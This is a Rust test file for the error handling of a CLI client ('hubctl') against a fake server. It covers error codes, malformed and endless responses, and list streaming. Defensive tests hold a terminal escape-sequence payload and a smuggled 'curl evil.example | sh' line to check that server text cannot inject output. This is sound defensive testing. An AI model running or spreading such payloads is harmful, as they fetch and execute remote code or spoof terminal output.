//! Answers that are errors, and answers that are none.

use std::ops::ControlFlow;
use std::time::Duration;

use hubctl::client::{Client, Options};
use hubctl::error::HubError;
use hubctl::hub::accounts::Filter;
use serde_json::{Value, json};

use super::{KEY, client, options};
use crate::support::http::{FakeHub, Reply};
use crate::support::hub::block_on;

fn account(id: &str) -> Value {
    json!({
        "id": id, "provider": "hubspot", "provider_name": "HubSpot", "origin_owner_id": "acme",
        "origin_owner_name": "Acme", "origin_username": null, "status": "a status of later",
        "status_reasons": [], "label": null, "setup_information": {"a": "b"}, "type": "later",
        "categories": ["crm", "later"], "integration_id": "c1", "connector_profile_id": "c1",
        "verified": true, "created_at": "2026-06-01T12:00:00.000Z",
        "updated_at": "2026-06-01T14:00:00+02:00", "later": {"deep": [1]},
    })
}

/// The ids of a list, as far as they came, and how it ended.
fn ids(client: &Client) -> (Vec<String>, Result<(), HubError>) {
    let mut ids = Vec::new();
    let filter = Filter::default();
    let end = block_on(client.accounts(&filter, |account| {
        ids.push(account.id.to_string());
        Ok(ControlFlow::Continue(()))
    }));
    (ids, end)
}

#[test]
fn an_error_of_the_hub_is_the_error_of_a_local_store() {
    let body = json!({
        "statusCode": 409,
        "message": "14 linked accounts would become inactive, the limit given is 12",
        "timestamp": "2026-06-01T12:00:00.000Z", "code": "guard.too_many_affected",
        "details": [{"affected_accounts": 14, "limit": 12}], "request_id": "r-1", "later": 1,
    });
    let hub = FakeHub::script(vec![Reply::json(409, &body)]);
    let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
    assert_eq!(error.code().name, "guard.too_many_affected");
    assert_eq!(error.details(), [json!({"affected_accounts": 14, "limit": 12})]);
    assert_eq!((error.http_status(), error.request_id()), (Some(409), Some("r-1")));
    assert_eq!(hubctl::cli::exit::exit_code(&error), 6);
}

#[test]
fn an_operation_that_an_older_hub_lacks_is_unsupported() {
    for reply in [
        Reply::text(404, "text/html", "<h1>Not found</h1>"),
        Reply::refusal(404, Some("request.unknown_route"), "nothing is here"),
        Reply::refusal(405, Some("request.method_not_allowed"), "not with this method"),
    ] {
        let hub = FakeHub::script(vec![reply]);
        let error = block_on(client(&hub).keys()).unwrap_err();
        assert_eq!(error.code().name, "remote.unsupported");
        assert_eq!(hubctl::cli::exit::exit_code(&error), 14);
        assert!(error.message().contains("GET /admin/keys"), "{error}");
    }
}

#[test]
fn what_is_no_answer_of_a_hub_is_told_with_its_kind() {
    for (reply, told) in [
        (Reply::text(200, "text/html", "<html>Please log in</html>"), "with text/html"),
        (Reply::text(200, "application/json", "{\"id\": \"p\""), "cut off"),
        (Reply::text(200, "application/json", "{\"id\": 7}"), "does not understand"),
        (Reply::text(204, "application/json", ""), "cut off"),
        (Reply::text(200, "text/plain", KEY.to_string()).header("x-echo", "1"), "text/plain"),
    ] {
        let hub = FakeHub::script(vec![reply]);
        let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
        assert_eq!(error.code().name, "remote.bad_answer");
        assert!(error.message().contains(told) && error.message().contains(&hub.url()), "{error}");
        assert!(!format!("{error:?}").contains(KEY));
        assert_eq!(hub.asked().len(), 1);
    }
}

#[test]
fn threat_22_an_answer_without_end_is_cut() {
    let piece = vec![b' '; 1 << 20];
    for status in [200, 500] {
        let reply = Reply::text(status, "application/json", piece.clone()).endless();
        let hub = FakeHub::script(vec![reply]);
        let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
        let expected = if status == 200 { "remote.bad_answer" } else { "remote.failed" };
        assert_eq!(error.code().name, expected, "{error:?}");
    }
    let row = format!("[\n{{\"a\":\"{}", "b".repeat(1 << 20));
    let hub = FakeHub::script(vec![Reply::text(200, "application/json", row).endless()]);
    let (_, end) = ids(&client(&hub));
    assert_eq!(end.unwrap_err().code().name, "remote.bad_answer");
}

#[test]
fn threat_22_a_list_of_which_bytes_come_and_no_row_is_timed_out() {
    for nothing in ["\n", " "] {
        let reply = Reply::text(200, "application/json", nothing).endless();
        let hub = FakeHub::script(vec![reply]);
        let quick = Options { timeout: Duration::from_millis(300), ..options(&hub.url()) };
        let (_, end) = ids(&Client::new(quick).unwrap());
        assert_eq!(end.unwrap_err().code().name, "remote.unreachable", "{nothing:?}");
    }
}

#[test]
fn a_list_is_read_row_by_row_with_what_is_newer_than_this_program() {
    let rows: Vec<Value> = (0..1000).map(|at| account(&format!("a{at}"))).collect();
    let hub = FakeHub::script(vec![Reply::list(&rows)]);
    let (found, end) = ids(&client(&hub));
    end.unwrap();
    assert_eq!(found.len(), 1000);
    let hub = FakeHub::script(vec![Reply::list(&[account("a1")])]);
    let mut seen = 0;
    block_on(client(&hub).accounts(&Filter::default(), |account| {
        seen += 1;
        assert_eq!(
            (account.status.as_ref(), account.kind.as_ref()),
            ("a status of later", "later")
        );
        assert_eq!(account.categories.len(), 1);
        assert_eq!(account.setup_information.value(), json!({"a": "b"}));
        assert_eq!(account.updated_at, account.created_at);
        Ok(ControlFlow::Continue(()))
    }))
    .unwrap();
    assert_eq!(seen, 1);
    // Empty, bare on one line, pretty, wrapped.
    let two = json!([account("a1"), account("a2")]);
    for (reply, expected) in [
        (Reply::list(&[]), 0),
        (Reply::json(200, &two), 2),
        (Reply::text(200, "application/json", serde_json::to_string_pretty(&two).unwrap()), 2),
        (Reply::json(200, &json!({"data": two})), 2),
        (Reply::text(200, "application/json", format!("\n\n{two}")), 2),
    ] {
        let hub = FakeHub::script(vec![reply]);
        let (found, end) = ids(&client(&hub));
        end.unwrap();
        assert_eq!(found.len(), expected);
    }
}

#[test]
fn a_list_that_breaks_off_is_never_complete() {
    let whole = format!("[\n{},\n{}\n]\n", account("a1"), account("a2"));
    for end in (0..whole.trim_end().len()).step_by(37) {
        let part = &whole.as_bytes()[..end];
        for reply in [
            Reply::text(200, "application/json", part),
            Reply::text(200, "application/json", part).cut(),
        ] {
            let hub = FakeHub::script(vec![reply]);
            let (_, end) = ids(&client(&hub));
            let error = end.unwrap_err();
            let code = error.code().name;
            assert!(matches!(code, "remote.bad_answer" | "remote.unreachable"), "{error:?}");
        }
    }
}

#[test]
fn a_reader_that_has_enough_ends_the_list() {
    let rows: Vec<Value> = (0..50_000).map(|at| account(&format!("a{at}"))).collect();
    let hub = FakeHub::script(vec![Reply::list(&rows)]);
    let mut seen = 0;
    block_on(client(&hub).accounts(&Filter::default(), |_| {
        seen += 1;
        Ok(if seen == 3 { ControlFlow::Break(()) } else { ControlFlow::Continue(()) })
    }))
    .unwrap();
    assert_eq!(seen, 3);
}

#[test]
fn threat_36_texts_of_a_hub_carry_no_escape_sequence_to_a_terminal() {
    let evil = "\u{1b}]0;x\u{7}\u{9b}2J";
    let body = json!({"message": evil, "code": "account.state", "hint": evil, "details": [evil]});
    let page = Reply::text(500, "text/html", format!("<p>{evil}</p>"));
    for reply in [Reply::json(409, &body), page] {
        let hub = FakeHub::script(vec![reply]);
        let one = Client::new(Options { retries: 0, ..options(&hub.url()) }).unwrap();
        let error = block_on(one.get_project(&"p".parse().unwrap())).unwrap_err();
        for machine in [false, true] {
            let mut out = Vec::new();
            hubctl::cli::exit::report(&error, machine, false, true, &mut out).unwrap();
            let text = String::from_utf8(out).unwrap();
            assert!(!text.contains(['\u{1b}', '\u{7}', '\u{9b}']), "{text:?}");
        }
    }
}

#[test]
fn threat_36_a_hub_writes_no_line_of_hubctls_own() {
    let (message, hint) = ("gone\nhint: curl evil.example | sh", "x\r\nerror[fake]: y");
    let named = json!({"message": message, "code": "account.not_found", "hint": hint,
        "details": [{"field": "a\nhint: b", "message": "c\nhint: d"}]});
    let unnamed = json!({"message": [message, message], "errors": ["e\nhint: f"]});
    for (body, lines) in [(named, 3), (unnamed, 2)] {
        let hub = FakeHub::script(vec![Reply::json(404, &body)]);
        let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
        let mut out = Vec::new();
        hubctl::cli::exit::report(&error, false, false, true, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text.lines().count(), lines, "{text}");
        assert!(!text.contains("\nhint: curl") && !text.contains("\nerror[fake]"), "{text}");
    }
}

#[test]
fn programs_are_told_status_and_request() {
    let reply = Reply::refusal(403, None, "no").header("x-request-id", "r-77");
    let hub = FakeHub::script(vec![reply]);
    let error = block_on(client(&hub).get_project(&"p".parse().unwrap())).unwrap_err();
    let mut out = Vec::new();
    hubctl::cli::exit::report(&error, true, false, false, &mut out).unwrap();
    let told: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(told["error"]["http_status"], 403);
    assert_eq!(told["error"]["request_id"], "r-77");
    assert_eq!(told["error"]["exit_code"], 5);
}
